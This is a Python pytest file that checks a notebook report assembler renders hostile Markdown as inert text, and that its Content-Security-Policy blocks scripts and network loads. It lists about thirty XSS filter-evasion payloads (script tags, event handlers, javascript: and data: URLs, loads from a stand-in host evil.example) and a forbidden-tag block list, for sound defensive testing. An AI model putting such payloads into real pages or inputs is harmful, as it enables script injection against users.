"""Hostile Markdown in a chapter: known filter-evasion payloads are shown as text, never run.

Each payload goes through the assembler as a Markdown cell of a chapter; the rendered HTML must
hold no script, event handler, active URL, frame, object, embed, form, base, meta refresh or
external style sheet, and the page carries a Content-Security-Policy that forbids scripts and loads.
"""

from __future__ import annotations

from html.parser import HTMLParser

import nbformat
import pytest

from analysis.report import assemble
from analysis.report.chapters import Chapter

CHAPTER = Chapter(1, "demo", "Demo")

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](http://evil.example/track.png)",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<!--><script>alert(1)</script>-->",
    '<a href="#x" onclick="alert(1)">x</a>',
    "`<script>alert(1)</script>` in code stays code",
]

FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "form", "input", "base", "meta", "link", "style", "svg", "img",
                  "video", "source", "math", "body", "noscript", "details"}  # fmt: skip
ACTIVE_SCHEMES = ("javascript:", "vbscript:", "data:", "http:", "https:")


class _Elements(HTMLParser):
    """Every element the browser would build from the HTML: (tag, attributes)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))


def _active_parts(body: str) -> list[str]:
    parser = _Elements()
    parser.feed(body)
    found = []
    for tag, attributes in parser.elements:
        if tag in FORBIDDEN_TAGS:
            found.append(f"<{tag}>")
        for name, value in attributes.items():
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                found.append(f"{tag}[{name}]")
            cleaned = "".join(value.split()).lower()
            if name in ("src", "data", "action") or (name == "href" and cleaned.startswith(ACTIVE_SCHEMES[:3])):
                if name != "href" or cleaned.startswith(ACTIVE_SCHEMES[:3]):
                    found.append(f"{tag}[{name}={value}]")
    return found


def _render(markdown: str, tmp_path) -> str:
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell("# Demo"), nbformat.v4.new_markdown_cell(markdown)]
    path = tmp_path / "demo.ipynb"
    nbformat.write(nb, path)
    # A draft: the payloads carry digits (entities, base64), which a published chapter may not type.
    body, _ = assemble.render_chapter(CHAPTER, path, include_code=False, used_ids=set(), draft=True)
    return body


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_shown_as_text_and_never_active(payload, tmp_path):
    body = _render(f"Before {payload} after.", tmp_path)
    survivors = _active_parts(body)
    assert not survivors, f"{payload!r} left {survivors} in {body!r}"
    assert "Before" in body and "after." in body, "the prose around the payload stays visible"


def test_raw_markup_stays_visible_as_text(tmp_path):
    body = _render("A <script>alert(1)</script> tag.", tmp_path)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body


def test_ordinary_markdown_survives(tmp_path):
    body = _render(
        "Some *emphasis*, **strength**, `code`, a [link](#fig-x) and a [site](https://example.org).", tmp_path
    )
    assert "<em>emphasis</em>" in body and "<strong>strength</strong>" in body and "<code>code</code>" in body
    assert 'href="#fig-x"' in body and 'href="https://example.org"' in body


def test_the_page_forbids_scripts_and_network_loads():
    policy = assemble.CONTENT_SECURITY_POLICY
    for directive in (
        "default-src 'none'",
        "script-src 'none'",
        "object-src 'none'",
        "base-uri 'none'",
        "form-action 'none'",
    ):
        assert directive in policy
    assert "http" not in policy
